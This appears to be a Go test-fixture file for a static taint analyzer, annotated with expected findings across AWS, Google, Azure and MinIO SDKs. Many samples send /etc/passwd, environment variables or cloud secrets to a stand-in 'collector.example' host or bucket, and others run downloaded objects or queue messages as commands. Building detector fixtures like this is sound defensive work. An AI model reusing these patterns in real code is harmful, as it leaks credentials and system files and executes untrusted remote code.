// Object storage, queues, functions, tables and secrets of cloud providers: AWS (both SDKs), Google, Azure, MinIO.
package models

import (
	"context"
	"io"
	"net/http"
	"os"
	"os/exec"
	"strings"

	"cloud.google.com/go/bigquery"
	"cloud.google.com/go/firestore"
	"cloud.google.com/go/pubsub"
	secretmanager "cloud.google.com/go/secretmanager/apiv1"
	"cloud.google.com/go/storage"
	"github.com/Azure/azure-sdk-for-go/sdk/messaging/azservicebus"
	"github.com/Azure/azure-sdk-for-go/sdk/storage/azblob"
	"github.com/Azure/azure-sdk-for-go/sdk/storage/azblob/blockblob"
	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/feature/s3/manager"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
	"github.com/aws/aws-sdk-go-v2/service/sqs"
	"github.com/aws/aws-sdk-go/aws/session"
	s3v1 "github.com/aws/aws-sdk-go/service/s3"
	"github.com/aws/aws-sdk-go/service/s3/s3manager"
	sqsv1 "github.com/aws/aws-sdk-go/service/sqs"
	minio "github.com/minio/minio-go/v7"
	"gocloud.dev/blob"
)

const U = "https://collector.example/u?"

func pointer(c *sqs.Client, ctx context.Context) {
	c.SendMessage(ctx, &sqs.SendMessageInput{MessageBody: aws.String(os.Getenv("T"))}) //~ source(ENVIRONMENT) f1, sink(egress.cloud) f1, finding(traced) f1
}

func pointerConstant(c *sqs.Client, ctx context.Context) {
	c.SendMessage(ctx, &sqs.SendMessageInput{MessageBody: aws.String("ping")}) //~ ok
}

func oldStorage(s *session.Session) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f3
	c := s3v1.New(s) //~ capability(NETWORK)
	c.PutObject(&s3v1.PutObjectInput{Body: f}) //~ sink(egress.cloud) f3, finding(traced) f3
}

func oldStorageConstant(s *session.Session) {
	c := s3v1.New(s) //~ ok
	c.PutObject(&s3v1.PutObjectInput{Body: strings.NewReader("ping")}) //~ ok
}

func oldPut(c *s3v1.S3) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f5
	c.PutObject(&s3v1.PutObjectInput{Bucket: aws.String("old.collector.example"), Body: f}) //~ sink(egress.cloud) f5, finding(traced) f5, capability(NETWORK)
}

func oldPutConstant(c *s3v1.S3) {
	c.PutObject(&s3v1.PutObjectInput{Body: strings.NewReader("ping")}) //~ ok
}

func oldPutContext(c *s3v1.S3, ctx context.Context) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f7
	c.PutObjectWithContext(ctx, &s3v1.PutObjectInput{Body: f}) //~ sink(egress.cloud) f7, finding(traced) f7, capability(NETWORK)
}

func oldPutContextConstant(c *s3v1.S3, ctx context.Context) {
	c.PutObjectWithContext(ctx, &s3v1.PutObjectInput{Body: strings.NewReader("ping")}) //~ ok
}

func oldUploader(s *session.Session) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f9
	u := s3manager.NewUploader(s) //~ capability(NETWORK)
	u.Upload(&s3manager.UploadInput{Body: f}) //~ sink(egress.cloud) f9, finding(traced) f9
}

func oldUploaderConstant(s *session.Session) {
	u := s3manager.NewUploader(s) //~ ok
	u.Upload(&s3manager.UploadInput{Body: strings.NewReader("ping")}) //~ ok
}

func oldUpload(u *s3manager.Uploader) {
	input := &s3manager.UploadInput{}
	input.Body = strings.NewReader(os.Getenv("T")) //~ source(ENVIRONMENT) f11
	u.Upload(input) //~ sink(egress.cloud) f11, finding(traced) f11, capability(NETWORK)
}

func oldUploadConstant(u *s3manager.Uploader) {
	u.Upload(&s3manager.UploadInput{Body: strings.NewReader("ping")}) //~ ok
}

func upload(u *manager.Uploader, ctx context.Context) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f13
	u.Upload(ctx, &s3.PutObjectInput{Bucket: aws.String("b"), Key: aws.String("k"), Body: f}) //~ sink(egress.cloud) f13, finding(traced) f13, capability(NETWORK)
}

func uploadConstant(u *manager.Uploader, ctx context.Context) {
	u.Upload(ctx, &s3.PutObjectInput{Body: strings.NewReader("ping")}) //~ ok
}

func uploader(c *s3.Client, ctx context.Context) {
	u := manager.NewUploader(c) //~ capability(NETWORK)
	u.Upload(ctx, &s3.PutObjectInput{Body: strings.NewReader(os.Getenv("T"))}) //~ source(ENVIRONMENT) f15, sink(egress.cloud) f15, finding(traced) f15
}

func uploaderConstant(c *s3.Client, ctx context.Context) {
	u := manager.NewUploader(c) //~ ok
	u.Upload(ctx, &s3.PutObjectInput{Body: strings.NewReader("ping")}) //~ ok
}

func storageMade(cfg aws.Config, ctx context.Context) {
	c := s3.NewFromConfig(cfg) //~ capability(NETWORK)
	c.PutObject(ctx, &s3.PutObjectInput{Body: strings.NewReader(os.Getenv("T"))}) //~ source(ENVIRONMENT) f17, sink(egress.cloud) f17, finding(traced) f17
}

func storageMadeConstant(cfg aws.Config, ctx context.Context) {
	c := s3.NewFromConfig(cfg) //~ ok
	c.PutObject(ctx, &s3.PutObjectInput{Body: strings.NewReader("ping")}) //~ ok
}

func put(c *s3.Client, ctx context.Context) {
	c.PutObject(ctx, &s3.PutObjectInput{Key: aws.String(os.Getenv("T"))}) //~ source(ENVIRONMENT) f19, sink(egress.cloud) f19, finding(traced) f19, capability(NETWORK)
}

func putBucket(c *s3.Client, ctx context.Context) {
	c.PutObject(ctx, &s3.PutObjectInput{Bucket: aws.String(os.Getenv("BUCKET")), Body: strings.NewReader("ping")}) //~ ok
}

func got(c *s3.Client, ctx context.Context) {
	o, _ := c.GetObject(ctx, &s3.GetObjectInput{}) //~ source(NETWORK) f21, capability(NETWORK)
	b, _ := io.ReadAll(o.Body)
	exec.Command(string(b)).Run() //~ sink(exec.command) f21, finding(traced) f21
}

func gotUnused(c *s3.Client, ctx context.Context) {
	c.GetObject(ctx, &s3.GetObjectInput{}) //~ ok
}

func oldDownload(d *s3manager.Downloader) {
	b := aws.NewWriteAtBuffer(nil)
	d.Download(b, nil) //~ source(NETWORK) f23, capability(NETWORK)
	exec.Command(string(b.Bytes())).Run() //~ sink(exec.command) f23, finding(assumed) f23
}

func oldDownloadUnused(d *s3manager.Downloader) {
	d.Download(nil, nil) //~ ok
}

func queued(c *sqs.Client, ctx context.Context) {
	c.SendMessage(ctx, &sqs.SendMessageInput{MessageBody: aws.String(os.Getenv("T"))}) //~ source(ENVIRONMENT) f25, sink(egress.cloud) f25, finding(traced) f25, capability(NETWORK)
}

func queuedTo(c *sqs.Client, ctx context.Context) {
	c.SendMessage(ctx, &sqs.SendMessageInput{QueueUrl: aws.String(os.Getenv("QUEUE")), MessageBody: aws.String("ping")}) //~ ok
}

func oldQueued(c *sqsv1.SQS) {
	c.SendMessage(&sqsv1.SendMessageInput{MessageBody: aws.String(os.Getenv("T"))}) //~ source(ENVIRONMENT) f27, sink(egress.cloud) f27, finding(traced) f27, capability(NETWORK)
}

func oldQueuedConstant(c *sqsv1.SQS) {
	c.SendMessage(&sqsv1.SendMessageInput{MessageBody: aws.String("ping")}) //~ ok
}

func queueMade(cfg aws.Config, ctx context.Context) {
	c := sqs.NewFromConfig(cfg) //~ capability(NETWORK)
	c.SendMessage(ctx, &sqs.SendMessageInput{MessageBody: aws.String(os.Getenv("T"))}) //~ source(ENVIRONMENT) f29, sink(egress.cloud) f29, finding(traced) f29
}

func queueMadeConstant(cfg aws.Config, ctx context.Context) {
	c := sqs.NewFromConfig(cfg) //~ ok
	c.SendMessage(ctx, &sqs.SendMessageInput{MessageBody: aws.String("ping")}) //~ ok
}

func dequeued(c *sqs.Client, ctx context.Context) {
	o, _ := c.ReceiveMessage(ctx, &sqs.ReceiveMessageInput{}) //~ source(NETWORK) f31, capability(NETWORK)
	exec.Command(*o.Messages[0].Body).Run() //~ sink(exec.command) f31, finding(traced) f31
}

func dequeuedUnused(c *sqs.Client, ctx context.Context) {
	c.ReceiveMessage(ctx, &sqs.ReceiveMessageInput{}) //~ ok
}

func secret(c *secretsmanager.Client, ctx context.Context) {
	o, _ := c.GetSecretValue(ctx, &secretsmanager.GetSecretValueInput{}) //~ source(CREDENTIAL) f33, capability(CREDENTIALS)
	http.Get(U + *o.SecretString) //~ sink(egress.http) f33, finding(traced) f33
}

func secretUnused(c *secretsmanager.Client, ctx context.Context) {
	c.GetSecretValue(ctx, &secretsmanager.GetSecretValueInput{}) //~ ok
}

func credentials(p aws.CredentialsProvider, ctx context.Context) {
	v, _ := p.Retrieve(ctx) //~ source(CREDENTIAL) f35, capability(CREDENTIALS)
	http.Get(U + v.SecretAccessKey) //~ sink(egress.http) f35, finding(traced) f35
}

func credentialsUnused(p aws.CredentialsProvider, ctx context.Context) {
	p.Retrieve(ctx) //~ ok
}

func bucketClient(ctx context.Context) {
	c, _ := storage.NewClient(ctx) //~ capability(NETWORK)
	w := c.Bucket("b").Object("o").NewWriter(ctx)
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f37, sink(egress.cloud) f37, finding(traced) f37
}

func bucketClientConstant(ctx context.Context) {
	c, _ := storage.NewClient(ctx) //~ ok
	w := c.Bucket("b").Object("o").NewWriter(ctx)
	w.Write([]byte("ping")) //~ ok
}

func bucket(c *storage.Client, ctx context.Context) {
	w := c.Bucket("b").Object("o").NewWriter(ctx)
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f39, sink(egress.cloud) f39, finding(traced) f39
}

func bucketConstant(c *storage.Client, ctx context.Context) {
	c.Bucket("b").Object("o").NewWriter(ctx).Write([]byte("ping")) //~ ok
}

func object(b *storage.BucketHandle, ctx context.Context) {
	w := b.Object("o").NewWriter(ctx)
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f41, sink(egress.cloud) f41, finding(traced) f41
}

func objectConstant(b *storage.BucketHandle, ctx context.Context) {
	b.Object("o").NewWriter(ctx).Write([]byte("ping")) //~ ok
}

func objectWriter(o *storage.ObjectHandle, ctx context.Context) {
	w := o.NewWriter(ctx) //~ capability(NETWORK)
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f43, sink(egress.cloud) f43, finding(traced) f43
}

func objectWriterConstant(o *storage.ObjectHandle, ctx context.Context) {
	w := o.NewWriter(ctx) //~ ok
	w.Write([]byte("ping")) //~ ok
}

func objectReader(o *storage.ObjectHandle, ctx context.Context) {
	r, _ := o.NewReader(ctx) //~ source(NETWORK) f45, capability(NETWORK)
	b, _ := io.ReadAll(r)
	exec.Command(string(b)).Run() //~ sink(exec.command) f45, finding(traced) f45
}

func objectReaderUnused(o *storage.ObjectHandle, ctx context.Context) {
	o.NewReader(ctx) //~ ok
}

func objectWritten(w *storage.Writer) {
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f47, sink(egress.cloud) f47, finding(traced) f47, capability(NETWORK)
}

func objectWrittenConstant(w *storage.Writer) {
	w.Write([]byte("ping")) //~ ok
}

func topicClient(ctx context.Context) {
	c, _ := pubsub.NewClient(ctx, "p") //~ capability(NETWORK)
	c.Topic("t").Publish(ctx, &pubsub.Message{Data: []byte(os.Getenv("T"))}) //~ source(ENVIRONMENT) f49, sink(egress.message) f49, finding(traced) f49
}

func topicClientConstant(ctx context.Context) {
	c, _ := pubsub.NewClient(ctx, "p") //~ ok
	c.Topic("t").Publish(ctx, &pubsub.Message{}) //~ ok
}

func topic(c *pubsub.Client, ctx context.Context) {
	c.Topic("t").Publish(ctx, &pubsub.Message{Data: []byte(os.Getenv("T"))}) //~ source(ENVIRONMENT) f51, sink(egress.message) f51, finding(traced) f51
}

func topicConstant(c *pubsub.Client, ctx context.Context) {
	c.Topic("t").Publish(ctx, &pubsub.Message{}) //~ ok
}

func published(topic *pubsub.Topic, ctx context.Context) {
	topic.Publish(ctx, &pubsub.Message{Data: []byte(os.Getenv("T"))}) //~ source(ENVIRONMENT) f53, sink(egress.message) f53, finding(traced) f53, capability(NETWORK)
}

func publishedConstant(topic *pubsub.Topic, ctx context.Context) {
	topic.Publish(ctx, &pubsub.Message{Data: []byte("ping")}) //~ ok
}

func subscribed(s *pubsub.Subscription, ctx context.Context) {
	s.Receive(ctx, func(ctx context.Context, m *pubsub.Message) { //~ source(NETWORK) f55, capability(NETWORK)
		exec.Command(string(m.Data)).Run() //~ sink(exec.command) f55, finding(traced) f55
	})
}

func subscribedUnused(s *pubsub.Subscription, ctx context.Context) {
	s.Receive(ctx, func(ctx context.Context, m *pubsub.Message) {}) //~ ok
}

func googleSecret(c *secretmanager.Client, ctx context.Context) {
	v, _ := c.AccessSecretVersion(ctx, nil) //~ source(CREDENTIAL) f57, capability(CREDENTIALS)
	http.Get(U + string(v.Payload.Data)) //~ sink(egress.http) f57, finding(traced) f57
}

func googleSecretUnused(c *secretmanager.Client, ctx context.Context) {
	c.AccessSecretVersion(ctx, nil) //~ ok
}

func inserted(i *bigquery.Inserter, ctx context.Context) {
	i.Put(ctx, os.Environ()) //~ source(ENVIRONMENT) f59, sink(egress.cloud) f59, finding(traced) f59, capability(NETWORK)
}

func insertedConstant(i *bigquery.Inserter, ctx context.Context) {
	i.Put(ctx, "ping") //~ ok
}

func blobClient(ctx context.Context) {
	c, _ := azblob.NewClient("https://blob.collector.example/", nil, nil) //~ capability(NETWORK), endpoint("https://blob.collector.example/")
	c.UploadBuffer(ctx, "c", "b", []byte(os.Getenv("T")), nil) //~ source(ENVIRONMENT) f61, sink(egress.cloud) f61, finding(traced) f61
}

func blobClientConstant(ctx context.Context) {
	c, _ := azblob.NewClient("https://blob.collector.example/", nil, nil) //~ ok
	c.UploadBuffer(ctx, "c", "b", []byte("ping"), nil) //~ ok
}

func blobStream(c *azblob.Client, ctx context.Context) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f63
	c.UploadFile(ctx, "c", "passwd", f, nil) //~ sink(egress.cloud) f63, finding(traced) f63, capability(NETWORK)
}

func blobStreamConstant(c *azblob.Client, ctx context.Context) {
	c.UploadStream(ctx, "c", "a", strings.NewReader("ping"), nil) //~ ok
}

func blobRead(c *azblob.Client, ctx context.Context) {
	r, _ := c.DownloadStream(ctx, "c", "run.sh", nil) //~ source(NETWORK) f65, capability(NETWORK)
	b, _ := io.ReadAll(r.Body)
	exec.Command(string(b)).Run() //~ sink(exec.command) f65, finding(traced) f65
}

func blobReadUnused(c *azblob.Client, ctx context.Context) {
	c.DownloadStream(ctx, "c", "run.sh", nil) //~ ok
}

func block(c *blockblob.Client, ctx context.Context) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f67
	c.UploadStream(ctx, f, nil) //~ sink(egress.cloud) f67, finding(traced) f67, capability(NETWORK)
}

func blockConstant(c *blockblob.Client, ctx context.Context) {
	c.UploadStream(ctx, strings.NewReader("ping"), nil) //~ ok
}

func bus(s *azservicebus.Sender, ctx context.Context) {
	s.SendMessage(ctx, &azservicebus.Message{Body: []byte(os.Getenv("T"))}, nil) //~ source(ENVIRONMENT) f69, sink(egress.cloud) f69, finding(traced) f69, capability(NETWORK)
}

func busConstant(s *azservicebus.Sender, ctx context.Context) {
	s.SendMessage(ctx, &azservicebus.Message{Body: []byte("ping")}, nil) //~ ok
}

func minioClient(ctx context.Context) {
	c, _ := minio.New("minio.collector.example", nil) //~ capability(NETWORK), endpoint("minio.collector.example")
	c.PutObject(ctx, "b", "o", strings.NewReader(os.Getenv("T")), -1, minio.PutObjectOptions{}) //~ source(ENVIRONMENT) f71, sink(egress.cloud) f71, finding(traced) f71
}

func minioClientConstant(ctx context.Context) {
	c, _ := minio.New("minio.collector.example", nil) //~ ok
	c.PutObject(ctx, "b", "o", strings.NewReader("ping"), -1, minio.PutObjectOptions{}) //~ ok
}

func minioPut(c *minio.Client, ctx context.Context) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f73
	c.PutObject(ctx, "b", "o", f, -1, minio.PutObjectOptions{}) //~ sink(egress.cloud) f73, finding(traced) f73, capability(NETWORK)
}

func minioPutConstant(c *minio.Client, ctx context.Context) {
	c.PutObject(ctx, "b", "o", strings.NewReader("ping"), -1, minio.PutObjectOptions{}) //~ ok
}

func minioFile(c *minio.Client, ctx context.Context) {
	c.FPutObject(ctx, "b", "o", "/etc/passwd", minio.PutObjectOptions{}) //~ source(FILE) f75, sink(egress.cloud) f75, finding(traced) f75, capability(NETWORK), capability(FILES)
}

func minioFileNot(c *minio.Client) {
	put := c.FPutObject //~ ok
	_ = put
}

func minioGet(c *minio.Client, ctx context.Context) {
	r, _ := c.GetObject(ctx, "b", "o", minio.GetObjectOptions{}) //~ source(NETWORK) f77, capability(NETWORK)
	b, _ := io.ReadAll(r)
	exec.Command(string(b)).Run() //~ sink(exec.command) f77, finding(traced) f77
}

func minioGetUnused(c *minio.Client, ctx context.Context) {
	c.GetObject(ctx, "b", "o", minio.GetObjectOptions{}) //~ ok
}

func portable(b *blob.Bucket, ctx context.Context) {
	b.WriteAll(ctx, "k", []byte(os.Getenv("T")), nil) //~ source(ENVIRONMENT) f79, sink(egress.cloud) f79, finding(traced) f79, capability(NETWORK)
}

func portableConstant(b *blob.Bucket, ctx context.Context) {
	b.WriteAll(ctx, "k", []byte("ping"), nil) //~ ok
}

func document(d *firestore.DocumentRef, ctx context.Context) {
	d.Set(ctx, map[string]string{"t": os.Getenv("T")}) //~ source(ENVIRONMENT) f81, sink(egress.cloud) f81, finding(traced) f81, capability(NETWORK)
}

func documentConstant(d *firestore.DocumentRef, ctx context.Context) {
	d.Set(ctx, map[string]string{"t": "ping"}) //~ ok
}
